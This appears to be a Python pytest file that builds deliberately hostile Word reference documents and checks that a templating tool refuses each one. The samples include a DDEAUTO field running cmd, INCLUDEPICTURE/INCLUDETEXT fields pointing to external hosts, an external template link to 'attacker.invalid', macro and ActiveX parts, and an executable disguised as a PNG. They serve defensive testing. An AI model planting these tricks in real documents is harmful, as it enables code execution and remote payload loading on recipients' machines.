"""Hostile reference documents: each trick that walked around a text search of the parts is
refused by the parsed-XML check and the content-type allow-list, by `render` (exit 3, nothing
written) and by `pack check` (exit 3, naming the part and the reason)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from importlib import resources
from pathlib import Path
from typing import Any

import pytest

DEFAULT_REFERENCE = Path(str(resources.files("txplan.template_packs.default").joinpath("reference.docx")))
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"


def default_parts() -> dict[str, bytes]:
    """The parts of the default pack's reference document, by name."""
    with zipfile.ZipFile(DEFAULT_REFERENCE) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_override(types: bytes, part: str, content_type: str) -> bytes:
    """[Content_Types].xml with an Override declaring ``part``."""
    return types.replace(b"</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode())


def header_body(inner: str, prefix: str = "w") -> bytes:
    """A header part holding ``inner`` (WordprocessingML under namespace prefix ``prefix``)."""
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><{prefix}:hdr xmlns:{prefix}="{W}"><{prefix}:p>{inner}</{prefix}:p></{prefix}:hdr>'.encode()


def fld_simple() -> dict[str, bytes]:
    parts = default_parts()
    parts["word/header1.xml"] = header_body('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x.invalid/a.png&quot; \\d "><w:r><w:t>x</w:t></w:r></w:fldSimple>')
    return parts


def split_runs() -> dict[str, bytes]:
    parts = default_parts()
    runs = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">TEXT "\\\\\\\\host\\\\share\\\\a.docx" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    parts["word/header1.xml"] = header_body(runs)
    return parts


def other_prefix() -> dict[str, bytes]:
    parts = default_parts()
    parts["word/header1.xml"] = header_body('<q:r><q:instrText> DDEAUTO cmd "/c calc" </q:instrText></q:r>', prefix="q")
    return parts


def utf16_part() -> dict[str, bytes]:
    parts = default_parts()
    text = header_body('<w:r><w:instrText> INCLUDEPICTURE "http://x.invalid/b.png" </w:instrText></w:r>').decode()
    parts["word/header1.xml"] = text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    return parts


def not_named_xml() -> dict[str, bytes]:
    parts = default_parts()
    parts["word/header9.dat"] = header_body('<w:r><w:instrText> DDE excel "a" </w:instrText></w:r>')
    parts["[Content_Types].xml"] = with_override(parts["[Content_Types].xml"], "word/header9.dat", HEADER_TYPE)
    return parts


def late_doctype() -> dict[str, bytes]:
    parts = default_parts()
    padding = b"<!--" + b" " * 5000 + b"-->"
    body = parts["word/document.xml"].split(b"?>", 1)[1]
    parts["word/document.xml"] = b'<?xml version="1.0" encoding="UTF-8"?>' + padding + b'<!DOCTYPE w:document SYSTEM "http://x.invalid/d.dtd">' + body
    return parts


def macro_part() -> dict[str, bytes]:
    parts = default_parts()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 100
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    return parts


def undeclared_part() -> dict[str, bytes]:
    parts = default_parts()
    parts["word/embeddings/thing.payload"] = b"anything"
    return parts


def activex_part() -> dict[str, bytes]:
    parts = default_parts()
    parts["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    parts["[Content_Types].xml"] = with_override(parts["[Content_Types].xml"], "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    return parts


def image_lie() -> dict[str, bytes]:
    parts = default_parts()
    parts["word/media/image1.png"] = b"MZ\x90\x00 an executable, not a picture"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="png" ContentType="image/png"/></Types>')
    return parts


def disguised_relationships() -> dict[str, bytes]:
    parts = default_parts()
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>',
    )
    parts["[Content_Types].xml"] = with_override(parts["[Content_Types].xml"], "word/_rels/document.xml.rels", HEADER_TYPE)
    return parts


def svg_image() -> dict[str, bytes]:
    parts = default_parts()
    parts["word/media/image1.svg"] = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://x.invalid/track.png"/></svg>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="svg" ContentType="image/svg+xml"/></Types>')
    return parts


HOSTILE: dict[str, tuple[Callable[[], dict[str, bytes]], str]] = {
    "fldSimple": (fld_simple, "part word/header1.xml has a INCLUDEPICTURE field"),
    "split-across-runs": (split_runs, "part word/header1.xml has a INCLUDETEXT field"),
    "other-prefix": (other_prefix, "part word/header1.xml has a DDEAUTO field"),
    "utf-16": (utf16_part, "part word/header1.xml has a INCLUDEPICTURE field"),
    "not-named-xml": (not_named_xml, "part word/header9.dat has a DDE field"),
    "late-doctype": (late_doctype, "part word/document.xml contains a DOCTYPE/DTD"),
    "vbaProject": (macro_part, "part word/vbaProject.bin has content type application/vnd.ms-office.vbaProject"),
    "undeclared": (undeclared_part, "part word/embeddings/thing.payload has no content type"),
    "activeX": (activex_part, "part word/activeX/activeX1.xml has content type application/vnd.ms-office.activeX+xml"),
    "disguised-rels": (disguised_relationships, "part word/_rels/document.xml.rels is a relationships part declared as"),
    "svg-image": (svg_image, "part word/media/image1.svg is a image/svg+xml image; a reference document may hold PNG, JPEG or GIF images only"),
    "image-lie": (image_lie, "part word/media/image1.png is declared image/png but is not one"),
}


def hostile_pack(tmp_path: Path, parts: dict[str, bytes]) -> Path:
    """A pack folder whose reference.docx holds exactly ``parts``."""
    pack = tmp_path / "pack"
    (pack / "templates").mkdir(parents=True)
    (pack / "pack.yaml").write_text("name: probe\nversion: '1'\n", encoding="utf-8")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    (pack / "reference.docx").write_bytes(out.getvalue())
    return pack


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_reference_is_refused_by_render_and_pack_check(case: str, run: Callable[..., Any], tmp_path: Path, example_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each trick: `render` exits 3 naming the pack, the part and the reason, writing nothing;
    `pack check` exits 3 with the same reason."""
    build, expected = HOSTILE[case]
    pack = hostile_pack(tmp_path, build())
    monkeypatch.chdir(tmp_path)
    result = run("render", example_path, "--pack", pack, "-f", "md,docx", "-o", "out/")
    assert result.code == 3, result.err
    assert expected in result.err and "template pack 'probe'" in result.err
    assert "Traceback" not in result.err
    assert not (tmp_path / "out").exists()
    checked = run("pack", "check", pack)
    assert checked.code == 3 and expected in checked.err


def test_pack_check_reports_every_hostile_part_at_once(run: Callable[..., Any], tmp_path: Path) -> None:
    """A reference document with several planted problems has each reported in one run."""
    parts = macro_part()
    parts["word/header1.xml"] = fld_simple()["word/header1.xml"]
    parts["word/embeddings/thing.payload"] = b"anything"
    result = run("pack", "check", hostile_pack(tmp_path, parts))
    assert result.code == 3
    for expected in ("word/vbaProject.bin has content type", "word/header1.xml has a INCLUDEPICTURE field", "thing.payload has no content type"):
        assert expected in result.err, expected


def test_a_plain_reference_with_allowed_extras_is_accepted(tmp_path: Path, example_path: Path) -> None:
    """The allow-list is not a deny-all: a theme, a font table, a PNG and a harmless PAGE field
    (split across runs) still render."""
    import txplan

    parts = default_parts()
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 16
    parts["word/media/image1.png"] = png
    parts["word/theme/theme1.xml"] = b'<?xml version="1.0"?><a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="t"/>'
    parts["[Content_Types].xml"] = with_override(
        parts["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="png" ContentType="image/png"/></Types>'),
        "word/theme/theme1.xml", "application/vnd.openxmlformats-officedocument.theme+xml",
    )
    page_field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PA</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">GE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    parts["word/footer1.xml"] = parts["word/footer1.xml"].replace(b"</w:p>", page_field.encode(), 1)
    pack = hostile_pack(tmp_path, parts)
    assert txplan.render_plan(example_path, "docx", pack=str(pack))[:2] == b"PK"
